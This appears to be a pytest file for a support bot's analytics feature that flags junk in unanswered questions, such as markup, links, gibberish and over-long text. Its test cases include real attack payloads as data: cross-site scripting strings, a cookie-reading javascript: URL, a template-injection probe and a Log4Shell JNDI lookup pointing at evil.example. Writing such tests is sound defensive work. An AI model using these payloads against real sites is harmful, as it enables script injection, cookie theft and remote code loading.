"""Junk in the unanswered inbox (bot/analytics/junk.py): payloads, links, gibberish and essays are set apart."""

from __future__ import annotations

import pytest

from bot.analytics.conversations import AskedQuestion
from bot.analytics.junk import GIBBERISH, MARKUP, TOO_LONG, URLS, junk_reason
from bot.analytics.unanswered import cluster_questions
from tests.conftest import HashingEmbedder


def asked(conversation: str, text: str, hours: float) -> AskedQuestion:
    return AskedQuestion(conversation, text, "en", 1_700_000_000 + hours * 3600, "handoff", None, None, 0.1, "socketio")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("<script>alert(1)</script>", MARKUP),
        ('<SCRIPT src="//evil.example/x.js">', MARKUP),
        ("where is my order <img src=x onerror=alert(1)>", MARKUP),
        ("<svg/onload=alert(1)>", MARKUP),
        ("</textarea><script>", MARKUP),
        ("javascript:alert(document.cookie)", MARKUP),
        ("click here data:text/html,<b>hi</b>", MARKUP),
        ("{{7*7}} how much is shipping", MARKUP),
        ("${jndi:ldap://evil.example/a}", MARKUP),
        ("https://evil.example/free-money", URLS),
        ("www.spam.example  http://more.example", URLS),
        ("asdfghjkl", GIBBERISH),
        ("sdfghjk where", GIBBERISH),
        ("aaaaaaaaaa", GIBBERISH),
        ("?????", GIBBERISH),
        ("12345 678", GIBBERISH),
        ("%$#@!^&*()", GIBBERISH),
    ],
)
def test_junk_is_named_with_its_reason(text: str, reason: str):
    assert junk_reason(text) == reason


@pytest.mark.parametrize(
    "text",
    [
        "Do you sell gift cards?",
        "where's my stuff",
        "Is my order LK-123456 shipped yet?",
        "can I pay with https://paypal.com?",  # a link inside a question is still a question
        "is 3 < 5 items free shipping",
        "можно купить подарочную карту",
        "هل يمكنني إرجاع المنتج؟",
        "What are your strengths?",
    ],
)
def test_real_questions_pass(text: str):
    assert junk_reason(text) is None


def test_over_long_text_is_junk_only_past_the_limit():
    question = "Can I return " + "a very big sofa " * 10
    assert junk_reason(question, max_chars=len(question.strip())) is None
    assert junk_reason(question + "and a chair", max_chars=len(question.strip())) == TOO_LONG


def test_script_payloads_are_clustered_apart_from_real_questions_and_flagged():
    questions = [
        asked("c1", "<script>alert(1)</script>", hours=1),
        asked("c2", "<script>alert(1)</script>", hours=2),
        asked("c3", "<script>alert(gift cards)</script> do you sell gift cards", hours=3),
        asked("c4", "do you sell gift cards", hours=4),
        asked("c5", "Can I buy " + "gift cards " * 30, hours=5),
    ]
    clusters = cluster_questions(questions, HashingEmbedder(dimension=1024), max_chars=200)
    # The real question's cluster is not swollen by payloads that mention gift cards, nor by the essay.
    assert sorted((c.count, c.junk, c.representative[:20]) for c in clusters) == [
        (1, "", "do you sell gift car"),
        (4, MARKUP, "<script>alert(1)</sc"),
    ]
    assert clusters[0].to_dict()["junk"] == MARKUP and clusters[1].to_dict()["junk"] is None
